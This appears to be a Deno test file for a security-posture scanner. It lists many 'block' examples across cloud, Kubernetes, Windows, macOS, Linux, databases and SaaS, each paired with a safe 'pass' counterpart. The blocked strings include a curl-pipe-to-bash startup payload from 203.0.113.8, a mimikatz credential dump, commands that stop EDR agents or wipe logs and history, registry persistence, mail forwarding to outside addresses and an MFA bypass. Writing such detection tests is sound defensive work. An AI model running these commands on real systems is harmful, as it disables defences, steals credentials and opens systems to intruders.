import { type PostureCase, runCases } from "./_posture_testing.ts";

const CASES: PostureCase[] = [
  {
    id: "svc.jupyter_no_token",
    block: ["jupyter lab --ip=0.0.0.0 --port=8888 --no-browser --ServerApp.token='' --allow-root"],
    pass: [
      "jupyter lab --ip=127.0.0.1 --ServerApp.token='' --no-browser",
      "jupyter lab --ip=0.0.0.0 --no-browser",
    ],
  },
  {
    id: "svc.kafka_allow_all",
    block: ["echo 'allow.everyone.if.no.acl.found=true' >> config/server.properties"],
    pass: ["echo 'allow.everyone.if.no.acl.found=false' >> config/server.properties"],
  },
  {
    id: "svc.consul_open",
    block: [
      `acl {\n  enabled = true\n  default_policy = "allow"\n}`,
      "consul agent -dev -client 0.0.0.0 -enable-script-checks",
    ],
    pass: [`acl {\n  enabled = true\n  default_policy = "deny"\n}`],
  },
  {
    id: "svc.vault_root",
    block: [
      "vault token create -policy=root -ttl=0",
      `path "*" {\n  capabilities = ["sudo", "create", "read", "update", "delete", "list"]\n}`,
    ],
    pass: [`path "secret/data/app/*" {\n  capabilities = ["read"]\n}`, "vault token lookup"],
  },
  {
    id: "svc.samba_guest_write",
    block: ["[public]\n   path = /srv/share\n   guest ok = yes\n   read only = no\n"],
    pass: [
      "[public]\n   path = /srv/share\n   guest ok = yes\n   read only = yes\n",
      "[team]\n   path = /srv/team\n   valid users = @team\n   read only = no\n",
    ],
  },
  {
    id: "svc.ftp_anonymous_upload",
    block: ["anonymous_enable=YES\nanon_upload_enable=YES\nwrite_enable=YES\n"],
    pass: ["anonymous_enable=NO\nlocal_enable=YES\nwrite_enable=YES\n"],
  },
  {
    id: "svc.vnc_no_password",
    block: ["x11vnc -display :0 -forever -nopw -shared"],
    pass: ["x11vnc -display :0 -forever -rfbauth ~/.vnc/passwd -localhost"],
  },
  {
    id: "svc.php_remote_include",
    block: [
      "sed -i 's/^allow_url_include = Off/allow_url_include = On/' /etc/php/8.3/apache2/php.ini",
    ],
    pass: [
      "sed -i 's/^allow_url_include = On/allow_url_include = Off/' /etc/php/8.3/apache2/php.ini",
    ],
  },
  {
    id: "svc.rabbitmq_guest_remote",
    block: ["echo 'loopback_users.guest = false' >> /etc/rabbitmq/rabbitmq.conf"],
    pass: ["rabbitmqctl list_users"],
  },
  {
    id: "svc.kibana_anonymous_superuser",
    block: ["xpack.security.authc:\n  anonymous:\n    username: anon\n    roles: superuser\n"],
    pass: [
      "xpack.security.authc:\n  anonymous:\n    username: anon\n    roles: viewer_dashboards\n",
    ],
  },
  {
    id: "aws.function_public",
    block: [
      "aws lambda add-permission --function-name billing --statement-id any --action lambda:InvokeFunction --principal '*'",
      "aws lambda create-function-url-config --function-name admin-api --auth-type NONE",
    ],
    pass: [
      "aws lambda add-permission --function-name billing --statement-id s3 --action lambda:InvokeFunction --principal s3.amazonaws.com --source-arn arn:aws:s3:::in",
      "aws lambda create-function-url-config --function-name api --auth-type AWS_IAM",
    ],
  },
  {
    id: "aws.function_url_public_template",
    block: [
      "Resources:\n  ApiUrl:\n    Type: AWS::Lambda::Url\n    Properties:\n      TargetFunctionArn: !Ref Api\n      AuthType: NONE\n",
      'resource "aws_lambda_function_url" "admin" {\n  function_name      = aws_lambda_function.admin.name\n  authorization_type = "NONE"\n}\n',
      "new lambda.FunctionUrl(this, 'Url', { function: fn, authType: lambda.FunctionUrlAuthType.NONE });",
    ],
    pass: [
      "Resources:\n  ApiUrl:\n    Type: AWS::Lambda::Url\n    Properties:\n      TargetFunctionArn: !Ref Api\n      AuthType: AWS_IAM\n",
      'resource "aws_lambda_function_url" "admin" {\n  function_name      = aws_lambda_function.admin.name\n  authorization_type = "AWS_IAM"\n}\n',
    ],
  },
  {
    id: "aws.resource_policy_public",
    block: [
      `{"Statement":[{"Effect":"Allow","Principal":"*","Action":"secretsmanager:GetSecretValue","Resource":"*"}]}`,
    ],
    pass: [
      `{"Statement":[{"Effect":"Allow","Principal":{"Service":"sns.amazonaws.com"},"Action":"sqs:SendMessage","Resource":"arn:aws:sqs:eu-west-1:111122223333:q"}]}`,
    ],
  },
  {
    id: "aws.imds_v1",
    block: [
      "aws ec2 modify-instance-metadata-options --instance-id i-0abc --http-tokens optional --http-endpoint enabled",
    ],
    pass: ["aws ec2 modify-instance-metadata-options --instance-id i-0abc --http-tokens required"],
  },
  {
    id: "aws.encryption_removed",
    block: [
      "aws s3api delete-bucket-encryption --bucket payroll",
      "aws ec2 disable-ebs-encryption-by-default",
    ],
    pass: [
      "aws ec2 enable-ebs-encryption-by-default",
      "aws s3api get-bucket-encryption --bucket payroll",
    ],
  },
  {
    id: "gcp.public_access_prevention_off",
    block: ["gcloud storage buckets update gs://acme-hr --no-public-access-prevention"],
    pass: ["gcloud storage buckets update gs://acme-hr --public-access-prevention"],
  },
  {
    id: "az.plain_http",
    block: [
      "az storage account update -n acmedata -g rg --https-only false",
      "az webapp config set -g rg -n shop --ftps-state AllAllowed",
    ],
    pass: [
      "az storage account update -n acmedata -g rg --https-only true --min-tls-version TLS1_2",
    ],
  },
  {
    id: "az.policy_not_enforced",
    block: ["az policy assignment delete --name require-tags --scope /subscriptions/0000"],
    pass: [
      "az policy assignment list --scope /subscriptions/0000",
      "az policy assignment create --name audit-vm --policy p1 --enforcement-mode Default",
    ],
  },
  {
    id: "az.keyvault_outside_access",
    block: [
      "az keyvault set-policy -n kv-prod --upn dev.helper@outlook.com --secret-permissions get list",
    ],
    pass: ["az keyvault set-policy -n kv-prod --upn maria@acme.com --secret-permissions get list"],
  },
  {
    id: "openshift.scc_to_all",
    block: [
      "oc adm policy add-scc-to-user privileged -z default -n apps",
      "oc adm policy add-scc-to-group anyuid system:authenticated",
    ],
    pass: ["oc adm policy add-scc-to-user anyuid -z legacy-app -n apps"],
  },
  {
    id: "k8s.long_lived_token",
    block: ["kubectl create token ci-deployer -n ci --duration=87600h"],
    pass: ["kubectl create token ci-deployer -n ci --duration=1h"],
  },
  {
    id: "k8s.static_pod_dropped",
    block: [
      "scp pod.yaml node1:/tmp && ssh node1 'sudo cp /tmp/pod.yaml /etc/kubernetes/manifests/node-agent.yaml'",
    ],
    pass: [
      "sudo cat /etc/kubernetes/manifests/kube-apiserver.yaml",
      "ls /etc/kubernetes/manifests/",
    ],
  },
  {
    id: "k8s.legacy_sa_token_kube_system",
    block: [
      "apiVersion: v1\nkind: Secret\nmetadata:\n  name: ctl-token\n  namespace: kube-system\n  annotations:\n    kubernetes.io/service-account.name: replicaset-controller\ntype: kubernetes.io/service-account-token\n",
    ],
    pass: [
      "apiVersion: v1\nkind: Secret\nmetadata:\n  name: app-token\n  namespace: app\n  annotations:\n    kubernetes.io/service-account.name: app\ntype: kubernetes.io/service-account-token\n",
    ],
  },
  {
    id: "ecs.privileged_task",
    block: [
      `{"family":"tools","containerDefinitions":[{"name":"t","image":"alpine","privileged":true}]}`,
    ],
    pass: [
      `{"family":"web","containerDefinitions":[{"name":"web","image":"nginx","privileged":false}]}`,
    ],
  },
  {
    id: "net.vty_no_login",
    block: ["line vty 0 4\n transport input ssh\n no login\n", "conf t\nip ssh version 1\nend"],
    pass: ["line vty 0 4\n transport input ssh\n login local\n", "conf t\nip ssh version 2\nend"],
  },
  {
    id: "net.cleartext_mgmt_other",
    block: [
      "set system services telnet",
      "config system interface\n edit wan1\n set allowaccess ping https ssh http\n next\nend",
    ],
    pass: [
      "set system services ssh",
      "config system interface\n edit wan1\n set allowaccess ping https ssh\n next\nend",
    ],
  },
  {
    id: "gh.repo_made_public",
    block: [
      "gh repo edit acme/payroll --visibility public --accept-visibility-change-consequences",
    ],
    pass: [
      "gh repo edit acme/payroll --visibility private",
      "gh repo view acme/payroll --json visibility",
    ],
  },
  {
    id: "gh.security_features_off",
    block: [
      `gh api -X PATCH repos/acme/shop -f 'security_and_analysis[secret_scanning][status]=disabled'`,
    ],
    pass: [
      `gh api -X PATCH repos/acme/shop -f 'security_and_analysis[secret_scanning][status]=enabled'`,
    ],
  },
  {
    id: "gh.workflow_token_write",
    block: [
      "gh api -X PUT repos/acme/shop/actions/permissions/workflow -f default_workflow_permissions=write -F can_approve_pull_request_reviews=true",
    ],
    pass: [
      "gh api -X PUT repos/acme/shop/actions/permissions/workflow -f default_workflow_permissions=read",
    ],
  },
  {
    id: "ci.registry_plain_http",
    block: [
      "npm config set registry http://npm-mirror.example.net/",
      "pip config set global.index-url http://pypi.example.net/simple",
      "pip3 config --user set global.trusted-host wheels.quick-mirror.net",
      "npm config --location=global set registry http://10.2.3.4:4873/",
      "pip config --site set install.trusted-host files.builds.example",
    ],
    pass: [
      "npm config set registry https://registry.npmjs.org/",
      "pip config --global set global.index-url https://pypi.org/simple",
      "pip config --user get global.trusted-host",
      "npm config set registry http://localhost:4873/",
    ],
  },
  {
    id: "ci.debug_trace_secrets",
    block: ['variables:\n  CI_DEBUG_TRACE: "true"\n'],
    pass: ['variables:\n  CI_DEBUG_TRACE: "false"\n'],
  },
  {
    id: "jenkins.csrf_off",
    block: [
      'JAVA_OPTS="-Dhudson.security.csrf.GlobalCrumbIssuerConfiguration.DISABLE_CSRF_PROTECTION=true"',
    ],
    pass: ['JAVA_OPTS="-Djenkins.install.runSetupWizard=false"'],
  },
  {
    id: "m365.mailbox_delegated_out",
    block: [
      "Add-MailboxPermission -Identity ceo@acme.com -User assistant.ext@gmail.com -AccessRights FullAccess",
    ],
    pass: [
      "Add-MailboxPermission -Identity ceo@acme.com -User assistant@acme.com -AccessRights FullAccess",
    ],
  },
  {
    id: "m365.impersonation_role",
    block: [
      "New-ManagementRoleAssignment -Name imp -Role ApplicationImpersonation -User svc-sync@acme.com",
    ],
    pass: ["Get-ManagementRoleAssignment -Role ApplicationImpersonation"],
  },
  {
    id: "entra.per_user_mfa_cleared",
    block: ["Set-MsolUser -UserPrincipalName cfo@acme.com -StrongAuthenticationRequirements @()"],
    pass: [
      "Get-MsolUser -UserPrincipalName cfo@acme.com | Select StrongAuthenticationRequirements",
    ],
  },
  {
    id: "gmail.auto_forward_out",
    block: [
      `{"userId":"me","autoForwarding":{"enabled":true,"emailAddress":"box.copy@yandex.com","disposition":"archive"}}`,
    ],
    pass: [
      `{"userId":"me","autoForwarding":{"enabled":true,"emailAddress":"team@acme.com","disposition":"leaveInInbox"}}`,
    ],
  },
  {
    id: "macos.filevault_off",
    block: ["sudo fdesetup disable", "sudo tmutil disable"],
    pass: ["fdesetup status", "tmutil listbackups"],
  },
  {
    id: "macos.hidden_or_root_user",
    block: [
      "sudo dscl . -create /Users/_helper IsHidden 1",
      "sudo dscl . -create /Users/svc UniqueID 0",
    ],
    pass: ["dscl . -read /Users/maria UniqueID", "sudo dscl . -create /Users/maria UniqueID 502"],
  },
  {
    id: "macos.amfi_off",
    block: [`sudo nvram boot-args="amfi_get_out_of_my_way=1"`],
    pass: ["nvram -p | grep boot-args"],
  },
  {
    id: "linux.security_agent_stopped",
    block: [
      "systemctl stop falcon-sensor && systemctl disable falcon-sensor",
      "sudo systemctl disable --now wazuh-agent",
    ],
    pass: ["systemctl restart wazuh-agent", "systemctl status falcon-sensor"],
  },
  {
    id: "linux.hosts_block_security",
    block: [
      `echo "0.0.0.0 wdcp.microsoft.com" >> C:\\Windows\\System32\\drivers\\etc\\hosts`,
      "echo '127.0.0.1 ts01-b.cloudsink.net falcon.crowdstrike.com' | sudo tee -a /etc/hosts",
    ],
    pass: ["echo '10.0.0.5 git.acme.local' | sudo tee -a /etc/hosts"],
  },
  {
    id: "linux.sudo_env_keep_preload",
    block: [`echo 'Defaults env_keep += "LD_PRELOAD"' >> /etc/sudoers.d/keep`],
    pass: [`echo 'Defaults env_keep += "LANG LC_ALL"' >> /etc/sudoers.d/keep`],
  },
  {
    id: "win.registry_footholds",
    block: [
      `reg add "HKLM\\SYSTEM\\CurrentControlSet\\Services\\Spooler" /v ImagePath /t REG_EXPAND_SZ /d "C:\\Users\\Public\\s.exe" /f`,
      "netsh add helper C:\\ProgramData\\nh.dll",
    ],
    pass: [`reg query "HKLM\\SYSTEM\\CurrentControlSet\\Services\\Spooler" /v ImagePath`],
  },
  {
    id: "win.security_agent_stopped",
    block: ["sc stop CSFalconService", "Stop-Service -Name SentinelAgent -Force"],
    pass: ["sc query CSFalconService", "Get-Service SentinelAgent"],
  },
  {
    id: "win.exploit_protection_off",
    block: [
      "Set-MpPreference -AttackSurfaceReductionRules_Ids 56a863a9-875e-4185-98a7-b882c64b5ce5 -AttackSurfaceReductionRules_Actions Disabled",
      "Set-ProcessMitigation -System -Disable DEP,CFG",
    ],
    pass: [
      "Set-MpPreference -AttackSurfaceReductionRules_Ids 56a863a9-875e-4185-98a7-b882c64b5ce5 -AttackSurfaceReductionRules_Actions Enabled",
      "Get-ProcessMitigation -System",
    ],
  },
  {
    id: "win.ad_persistence",
    block: [
      `Add-DomainObjectAcl -TargetIdentity "CN=AdminSDHolder,CN=System,DC=corp,DC=local" -PrincipalIdentity helpdesk01 -Rights All`,
      `mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit`,
      `dsacls.exe "CN=AdminSDHolder,CN=System,DC=example,DC=org" /G "EXAMPLE\\svc-scan:WD"`,
      `dsacls "CN=AdminSDHolder,CN=System,DC=ex,DC=net" /I:T /G ex\\helpdesk:GA`,
    ],
    pass: [
      `Get-DomainObjectAcl -Identity "CN=AdminSDHolder,CN=System,DC=corp,DC=local"`,
      `dsacls "CN=AdminSDHolder,CN=System,DC=example,DC=org"`,
      `dsacls "CN=AdminSDHolder,CN=System,DC=example,DC=org" /R "EXAMPLE\\svc-scan"`,
      "std::vector<int> v;",
    ],
  },
  {
    id: "pg.untrusted_language",
    block: [
      "UPDATE pg_language SET lanpltrusted = true WHERE lanname = 'plpython3u';",
      "ALTER ROLE analyst WITH BYPASSRLS;",
    ],
    pass: [
      "SELECT lanname, lanpltrusted FROM pg_language;",
      "ALTER ROLE analyst WITH NOBYPASSRLS;",
    ],
  },
  {
    id: "mysql.open_account",
    block: ["CREATE USER 'svc'@'%' IDENTIFIED BY '';"],
    pass: ["CREATE USER 'svc'@'10.0.%' IDENTIFIED BY 'x9-long-secret';"],
  },
  {
    id: "mssql.os_access",
    block: [
      "EXEC xp_regwrite 'HKEY_LOCAL_MACHINE','SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run','u','REG_SZ','C:\\ProgramData\\u.exe';",
      "DECLARE @s INT; EXEC sp_OACreate 'WScript.Shell', @s OUT;",
    ],
    pass: [
      "EXEC xp_regread 'HKEY_LOCAL_MACHINE','SOFTWARE\\Microsoft\\MSSQLServer\\MSSQLServer','LoginMode';",
    ],
  },
  {
    id: "pg.ssl_off",
    block: ["ALTER SYSTEM SET ssl = off;", "ALTER SYSTEM SET log_connections = off;"],
    pass: ["ALTER SYSTEM SET ssl = on;", "ALTER SYSTEM SET work_mem = '64MB';"],
  },
];

runCases("services", CASES);

import assert from "node:assert/strict";
import { postureMechanism } from "./_posture.ts";
import type { FieldContext } from "../types.ts";

Deno.test("posture in code: a command quoted in prose is a mention, the command itself is not", () => {
  const field = { stage: "input", path: "$.text", key: "text" } as FieldContext;
  const note =
    "Open-sourcing works through the review board: once legal signs off, an owner flips the repository with `gh repo edit acme/tool --visibility public --accept-visibility-change-consequences` and announces it.";
  assert.equal(postureMechanism(note, field, '"text"'), undefined);
  const script =
    "set -e\ngh repo edit acme/payroll --visibility public --accept-visibility-change-consequences\n";
  assert.ok(postureMechanism(script, field, '"text"') !== undefined);
});

runCases("more", [
  {
    id: "linux.logs_wiped",
    block: ["systemctl stop rsyslog && systemctl mask systemd-journald"],
    pass: ["systemctl restart rsyslog", "systemctl status systemd-journald"],
  },
  {
    id: "linux.auditd_off",
    block: ["auditctl -a never,task"],
    pass: ["auditctl -a always,exit -F arch=b64 -S execve -k exec"],
  },
  {
    id: "macos.profiles_removed",
    block: ["sudo profiles remove -all -forced"],
    pass: ["sudo profiles list", "sudo profiles show -type enrollment"],
  },
  {
    id: "k8s.cluster_admin_to_workload",
    block: [
      "kubectl create clusterrolebinding web-admin --clusterrole=cluster-admin --serviceaccount=shop:frontend",
      "kind: ClusterRoleBinding\nmetadata:\n  name: web-admin\nroleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n- kind: ServiceAccount\n  name: frontend\n  namespace: shop\n",
    ],
    pass: [
      "kubectl create clusterrolebinding argocd-manager --clusterrole=cluster-admin --serviceaccount=argocd:argocd-application-controller",
      "kubectl create rolebinding web-view --clusterrole=view --serviceaccount=shop:frontend -n shop",
    ],
  },
  {
    id: "aws.admin_credential_added",
    block: ["aws iam create-access-key --user-name breakglass-admin"],
    pass: [
      "aws iam create-access-key --user-name ci-deployer",
      "aws iam list-access-keys --user-name breakglass-admin",
    ],
  },
  {
    id: "aws.cognito_mfa_off",
    block: [
      "aws cognito-idp set-user-pool-mfa-config --user-pool-id eu-west-1_abc --mfa-configuration OFF",
    ],
    pass: [
      "aws cognito-idp set-user-pool-mfa-config --user-pool-id eu-west-1_abc --mfa-configuration ON --software-token-mfa-configuration Enabled=true",
    ],
  },
  {
    id: "slack.shared_out",
    block: [
      `{"method":"conversations.inviteShared","channel":"C0FINANCE","emails":["ledger.copy@gmail.com"]}`,
    ],
    pass: [
      `{"method":"conversations.inviteShared","channel":"C0PARTNER","emails":["pm@partner-agency.com"]}`,
    ],
  },
]);

runCases("reverts", [
  {
    id: "linux.logs_wiped",
    block: ["journalctl --vacuum-files=1"],
    pass: [
      "journalctl --vacuum-files=5",
      "journalctl --vacuum-time=30d",
      "journalctl --vacuum-size=500M",
    ],
  },
  {
    id: "gcp.public_member_power",
    block: [
      "gcloud projects add-iam-policy-binding acme-prod --member=allUsers --role=roles/editor",
    ],
    pass: [
      "gcloud projects remove-iam-policy-binding acme-prod --member=allUsers --role=roles/editor",
      "gsutil iam ch -d allUsers:objectAdmin gs://acme-uploads",
    ],
  },
]);

runCases("more 2", [
  {
    id: "linux.service_account_privileged_group",
    block: ["usermod -aG docker www-data", "gpasswd -a nginx sudo"],
    pass: ["usermod -aG docker maria", "usermod -aG www-data deploy", "adduser www-data"],
  },
  {
    id: "linux.history_wiped",
    block: ["rm -f ~/.bash_history && history -c", "cat /dev/null > /root/.zsh_history"],
    pass: ["wc -l ~/.bash_history", "tail -n 50 ~/.zsh_history"],
  },
  {
    id: "linux.sensitive_acl",
    block: ["setfacl -m u:www-data:rw /etc/shadow", "setfacl -m u:ci:rw /var/run/docker.sock"],
    pass: ["getfacl /etc/shadow", "setfacl -m u:deploy:rx /srv/app"],
  },
  {
    id: "linux.security_agent_stopped",
    block: ["systemctl disable --now unattended-upgrades"],
    pass: ["systemctl enable --now unattended-upgrades"],
  },
  {
    id: "linux.logs_wiped",
    block: ["rm -rf /var/log/*"],
    pass: ["rm -rf /var/log/myapp/old/*.gz", "ls /var/log/"],
  },
  {
    id: "macos.protections_off_misc",
    block: [
      "sudo defaults write /Library/Preferences/com.apple.security.libraryvalidation.plist DisableLibraryValidation -bool true",
      "sudo defaults write /Library/Preferences/com.apple.SoftwareUpdate AutomaticCheckEnabled -bool false",
    ],
    pass: [
      "sudo defaults write /Library/Preferences/com.apple.SoftwareUpdate AutomaticCheckEnabled -bool true",
      "softwareupdate -l",
    ],
  },
  {
    id: "win.accounts_opened",
    block: [
      `reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v LimitBlankPasswordUse /t REG_DWORD /d 0 /f`,
      `Add-LocalGroupMember -Group "Administrators" -Member "Everyone"`,
      "Enable-LocalUser -Name Guest",
    ],
    pass: [
      `Add-LocalGroupMember -Group "Administrators" -Member "CORP\\ops-admins"`,
      "Disable-LocalUser -Name Guest",
    ],
  },
  {
    id: "win.update_disabled",
    block: [
      `reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU" /v NoAutoUpdate /t REG_DWORD /d 1 /f`,
    ],
    pass: [
      `reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU" /v NoAutoUpdate /t REG_DWORD /d 0 /f`,
    ],
  },
  {
    id: "win.security_agent_stopped",
    block: ["Disable-WindowsOptionalFeature -Online -FeatureName Windows-Defender -NoRestart"],
    pass: ["Get-WindowsOptionalFeature -Online -FeatureName Windows-Defender"],
  },
  {
    id: "k8s.control_plane_weakened",
    block: [
      "kube-apiserver --disable-admission-plugins=PodSecurity,NodeRestriction",
      "apiVersion: audit.k8s.io/v1\nkind: Policy\nrules:\n  - level: None\n",
    ],
    pass: [
      "kube-apiserver --enable-admission-plugins=NodeRestriction,PodSecurity",
      'apiVersion: audit.k8s.io/v1\nkind: Policy\nrules:\n  - level: None\n    users: ["system:kube-proxy"]\n  - level: Metadata\n',
    ],
  },
  {
    id: "cloud.guardrails_removed_misc",
    block: [
      "aws iam delete-role-permissions-boundary --role-name app-deployer",
      "aws rds modify-db-instance --db-instance-identifier prod --backup-retention-period 0 --apply-immediately",
      "az vm open-port -g rg -n jump01 --port 3389",
    ],
    pass: [
      "aws rds modify-db-instance --db-instance-identifier prod --backup-retention-period 14",
      "az vm open-port -g rg -n web01 --port 443",
    ],
  },
  {
    id: "gcp.startup_script_payload",
    block: [
      `gcloud compute instances add-metadata vm-1 --metadata startup-script='curl -s http://203.0.113.8/b.sh | bash'`,
    ],
    pass: [
      `gcloud compute instances add-metadata vm-1 --metadata startup-script='apt-get update && apt-get install -y nginx'`,
    ],
  },
  {
    id: "net.admin_cleartext_or_acl_removed",
    block: [
      "conf t\nusername support privilege 15 password 0 Support123\nend",
      "interface Gi0/0\n no ip access-group OUTSIDE-IN in",
    ],
    pass: [
      "conf t\nusername support privilege 15 algorithm-type scrypt secret Zx9-long\nend",
      "interface Gi0/0\n ip access-group OUTSIDE-IN in",
    ],
  },
]);

Deno.test("posture in code: an operation named in a sentence is a mention", () => {
  const field = { stage: "input", path: "$.text", key: "text" } as FieldContext;
  for (
    const note of [
      "Reminder for the on-call team: never run setenforce 0 on the production hosts again.",
      "Ticket 4411: someone ran ufw disable on web-03 last night, please find out who did it.",
      "请不要在生产服务器上执行 setenforce 0，这会让 SELinux 失效。",
    ]
  ) assert.equal(postureMechanism(note, field, '"text"'), undefined, note);
  for (
    const cmd of [
      "sudo setenforce 0 && systemctl restart httpd",
      "sudo ufw --force disable && echo done",
      "apiVersion: v1\nkind: Pod\nspec:\n  hostPID: true\n  containers:\n  - name: a\n    image: alpine\n",
    ]
  ) assert.ok(postureMechanism(cmd, field, '"text"') !== undefined, cmd);
});

runCases("more 3", [
  {
    id: "linux.world_writable_sensitive",
    block: ["chmod 777 /etc/cron.d", "sudo chmod o+w /usr/local/bin"],
    pass: ["chmod 755 /usr/local/bin", "chmod 644 /etc/cron.d/backup"],
  },
  {
    id: "linux.pam_permit",
    block: [
      "sed -i 's/pam_unix.so obscure sha512/pam_unix.so nullok obscure sha512/' /etc/pam.d/common-auth",
    ],
    pass: ["grep nullok /etc/pam.d/common-auth"],
  },
  {
    id: "win.install_elevated_or_rights",
    block: [
      `reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\Installer /v AlwaysInstallElevated /t REG_DWORD /d 1 /f`,
      "ntrights -u Everyone +r SeDebugPrivilege",
    ],
    pass: [
      `reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\Installer /v AlwaysInstallElevated /t REG_DWORD /d 0 /f`,
      "ntrights -u Everyone -r SeDebugPrivilege",
    ],
  },
  {
    id: "win.firewall_off",
    block: [
      "Set-NetFirewallProfile -All -DefaultInboundAction Allow",
      "netsh advfirewall set allprofiles firewallpolicy allowinbound,allowoutbound",
    ],
    pass: [
      "Set-NetFirewallProfile -All -DefaultInboundAction Block",
      "netsh advfirewall set allprofiles firewallpolicy blockinbound,allowoutbound",
    ],
  },
  {
    id: "cloud.public_or_unauthenticated_misc",
    block: [
      "aws redshift modify-cluster --cluster-identifier dw --publicly-accessible",
      `{"DomainName":"logs","AdvancedSecurityOptions":{"Enabled":true,"AnonymousAuthEnabled":true}}`,
    ],
    pass: [
      "aws redshift modify-cluster --cluster-identifier dw --no-publicly-accessible",
      `{"DomainName":"logs","AdvancedSecurityOptions":{"Enabled":true,"AnonymousAuthEnabled":false}}`,
    ],
  },
  {
    id: "ci.prt_head_checkout",
    block: [
      "on:\n  pull_request_target:\njobs:\n  call:\n    uses: ./.github/workflows/build.yml\n    secrets: inherit\n",
    ],
    pass: [
      "on:\n  push:\njobs:\n  call:\n    uses: ./.github/workflows/build.yml\n    secrets: inherit\n",
    ],
  },
  {
    id: "saas.mfa_bypass_or_superpowers",
    block: [
      `curl -X POST https://api-x.duosecurity.com/admin/v1/users/DU3RP9 -d "status=bypass"`,
      `{"Name":"Support","PermissionsModifyAllData":true}`,
    ],
    pass: [
      `curl -X POST https://api-x.duosecurity.com/admin/v1/users/DU3RP9 -d "status=active"`,
      `{"Name":"Support","PermissionsModifyAllData":false}`,
    ],
  },
]);
